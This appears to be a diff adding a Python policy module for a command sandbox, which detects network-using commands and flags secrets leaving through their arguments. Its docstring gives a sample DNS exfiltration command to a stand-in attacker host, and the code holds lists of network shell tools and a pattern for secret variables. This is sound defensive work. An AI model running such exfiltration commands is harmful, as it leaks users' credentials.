@@ -1,0 +1,156 @@
+"""Which commands use the network, and secrets leaving through their arguments.
+
+Anything that touches the network is never Safe: the sandbox gives a command the network only when the
+decision says it needs it and the user approved. A secret (credential file, /proc/*/environ, a secret
+variable, the environment) in any argument of a network program is Dangerous, however it gets there:
+`@file`, `-F f=<file`, `--data-binary`, process substitution, or a DNS name (`dig $(cat key).evil.com`).
+"""
+
+from __future__ import annotations
+
+import re
+
+from framework_core.policy.context import Ctx, Word, confirm, danger
+from framework_core.policy.levels import Verdict
+from framework_core.policy.paths import secret_reason, show, write_reason
+from framework_core.policy.targets import resolve
+
+ALWAYS = {
+    "curl", "wget", "nc", "ncat", "netcat", "socat", "ssh", "scp", "sftp", "ftp", "lftp", "tftp", "telnet", "http",
+    "https", "xh", "httpie", "aria2c", "fetch", "openssl", "dig", "host", "nslookup", "drill", "ping", "ping6",
+    "traceroute", "tracepath", "mtr", "whois", "nmap", "ssh-keyscan", "sendmail", "mail", "mutt", "curlie", "axel",
+    "w3m", "lynx", "links", "elinks", "smbclient", "rclone", "s3cmd", "aws", "gcloud", "gsutil", "az", "gh", "hub",
+    "glab", "heroku", "vercel", "netlify", "flyctl", "fly", "doctl", "npx", "bunx", "uvx", "pipx", "yarn", "pnpm",
+    "terraform", "helm", "ansible", "ansible-playbook", "nix", "brew", "apt", "apt-get", "dnf", "yum", "pacman",
+    "apk", "snap", "flatpak", "gem", "bundle", "composer", "mvn", "gradle", "gradlew", "sbt", "rustup", "conda",
+    "mamba", "micromamba", "poetry", "pdm", "twine", "huggingface-cli", "svn", "hg", "bzr", "yt-dlp", "youtube-dl",
+    "torsocks", "proxychains", "proxychains4", "ngrok", "cloudflared", "go", "kubectl", "ollama", "git-lfs",
+}
+BY_SUBCOMMAND = {
+    "git": {"clone", "fetch", "pull", "push", "ls-remote", "archive", "send-email", "request-pull", "svn", "p4",
+            "lfs", "fetch-pack", "send-pack", "submodule", "remote"},
+    "pip": {"install", "download", "index", "search", "wheel"}, "pip3": {"install", "download", "index", "search",
+                                                                         "wheel"},
+    "npm": {"install", "i", "ci", "add", "update", "up", "upgrade", "publish", "view", "info", "show", "v", "search",
+            "outdated", "audit", "exec", "x", "init", "create", "login", "adduser", "whoami", "ping", "dist-tag",
+            "deprecate", "owner", "access", "token", "star", "unpublish", "doctor", "install-test", "it", "fund"},
+    "cargo": {"build", "b", "run", "r", "test", "t", "check", "c", "fetch", "update", "install", "add", "publish",
+              "tree", "metadata", "search", "bench", "doc", "clippy", "login", "yank", "owner", "vendor",
+              "generate-lockfile"},
+    "uv": {"pip", "sync", "add", "lock", "run", "tool", "python", "venv", "init", "publish", "build", "export"},
+    "docker": {"run", "pull", "push", "build", "login", "logout", "search", "create", "compose", "buildx", "trust",
+               "manifest", "image", "plugin"},
+    "podman": {"run", "pull", "push", "build", "login", "logout", "search", "create", "compose", "image"},
+    "bun": {"install", "i", "add", "update", "x", "create", "upgrade", "pm", "run"},
+    "deno": {"run", "install", "cache", "upgrade", "add", "compile", "test"},
+}
+LOCAL_NETWORK_SUBS = {("git", "remote"): {"", "-v", "--verbose", "get-url", "add", "rename", "remove", "rm",
+                                          "set-url", "set-branches"},
+                      ("git", "submodule"): {"status", "init", "deinit", "absorbgitdirs", "summary", "set-url"}}
+SECRET_VAR = re.compile(r"\$\{?!?([A-Za-z_]*(?:API_?KEY|TOKEN|SECRET|PASSWORD|PASSWD|CREDENTIAL|ACCESS_KEY|"
+                        r"PRIVATE_KEY|AUTH)[A-Za-z0-9_]*)", re.I)
+SOCKETS = re.compile(r"(docker|containerd|podman|crio)\.sock")
+IDENTITY_OPTS = {"-i", "--identity", "-F", "-o", "--rsh", "-e"}
+OUTPUT_OPTS = {"curl": {"-o", "--output", "-D", "--dump-header", "-c", "--cookie-jar", "--trace", "--trace-ascii",
+                        "--libcurl", "--stderr", "--output-dir"},
+               "wget": {"-O", "--output-document", "-o", "--output-file", "-a", "--append-output", "-P",
+                        "--directory-prefix", "--save-cookies"}}
+LOCAL_EXEC_OPTS = {"ProxyCommand", "LocalCommand", "KnownHostsCommand", "PermitLocalCommand", "Match"}
+
+
+def _subcommand(argv: list[str]) -> str:
+    return next((a for a in argv[1:] if not a.startswith("-")), "")
+
+
+def uses_network(argv: list[str]) -> bool:
+    name = argv[0]
+    if name in ALWAYS:
+        return True
+    if name == "rsync":
+        return any(":" in a and not a.startswith(("-", "/", ".")) for a in argv[1:])
+    subs = BY_SUBCOMMAND.get(name)
+    if subs is None:
+        return False
+    sub = _subcommand(argv)
+    if sub not in subs:
+        return False
+    local = LOCAL_NETWORK_SUBS.get((name, sub))
+    if local is not None:
+        rest = argv[argv.index(sub) + 1:]
+        nxt = next((a for a in rest if not a.startswith("-")), "")
+        if name == "git" and sub == "remote" and nxt == "show" and "-n" in rest:
+            return False
+        return nxt not in local
+    return True
+
+
+def _pieces(text: str) -> list[str]:
+    """A word and the file names it may carry: `f=@~/.ssh/id_rsa`, `@.env`, `name=<file`, `--x=file`."""
+    out = [text]
+    for sep in ("=", "@", "<"):
+        out += [p for t in list(out) for p in t.split(sep)[1:] if p]
+    return out
+
+
+def word_secret(w: Word, ctx: Ctx) -> str:
+    """What secret this word carries into the command, if any."""
+    if w.flow.secret:
+        return w.flow.secret
+    m = SECRET_VAR.search(w.text)
+    if m:
+        return f"the secret variable ${m.group(1)}"
+    for name in w.names:
+        if name in ctx.tainted:
+            return f"${name}, which holds {ctx.tainted[name]}"
+    for piece in _pieces(w.text):
+        word = Word(piece, w.dynamic, w.quoted, piece.startswith("~"), w.glob)
+        for t in resolve(word, ctx):
+            if t.path in ctx.tainted:
+                return f"{show(t.path)}, which holds {ctx.tainted[t.path]}"
+            why = secret_reason(t.path, t.glob) if t.path and not t.unknown else None
+            if why:
+                return why
+    return ""
+
+
+def exfiltration(argv: list[str], words: list[Word], ctx: Ctx) -> Verdict | None:
+    """Dangerous when a secret rides in any argument of a network command."""
+    for i, w in enumerate(words[1:], start=1):
+        if argv[0] in ("ssh", "scp", "sftp", "rsync") and (argv[i - 1] in IDENTITY_OPTS or
+                                                            w.text.startswith(("-i", "IdentityFile"))):
+            continue
+        secret = word_secret(w, ctx)
+        if secret:
+            return danger(argv, f"sends {secret} over the network", network=True)
+        if SOCKETS.search(w.text):
+            return danger(argv, "talks to the container daemon's socket, which controls the host as root",
+                          network=True)
+    return None
+
+
+def network_verdict(argv: list[str], words: list[Word], ctx: Ctx) -> Verdict:
+    """For a command that uses the network: exfiltration, local writes and local commands it implies."""
+    leak = exfiltration(argv, words, ctx)
+    if leak:
+        return leak
+    name = argv[0]
+    outputs = OUTPUT_OPTS.get(name, set())
+    for i, a in enumerate(argv[1:], start=1):
+        opt, eq, val = a.partition("=")
+        value = val if eq else (argv[i + 1] if i + 1 < len(argv) else "")
+        if opt in outputs or (name == "curl" and a.startswith("-o") and len(a) > 2):
+            value = a[2:] if a.startswith("-o") and len(a) > 2 and not eq else value
+            for t in resolve(Word(value, tilde=value.startswith("~")), ctx):
+                bad, why = write_reason(t.path, t.glob)
+                if bad:
+                    return danger(argv, why + " with what the network returns", network=True)
+                ctx.downloaded.add(t.path)
+        if name == "ssh":
+            key = a[2:] if a.startswith("-o") and len(a) > 2 else a if argv[i - 1] == "-o" else ""
+            if re.split(r"[=\s]", key.strip(), maxsplit=1)[0] in LOCAL_EXEC_OPTS:
+                return confirm(argv, f"ssh option {key.split('=')[0]} runs a local command", network=True)
+        if "ext::" in a:
+            return danger(argv, "an ext:: URL makes git run a local command", network=True)
+    if name in ("curl", "wget") and ("-K" in argv or "--config" in argv or "-e" in argv or "--execute" in argv):
+        return confirm(argv, f"{name} reads options from a file or command line that can write files", network=True)
+    return confirm(argv, "uses the network", network=True)
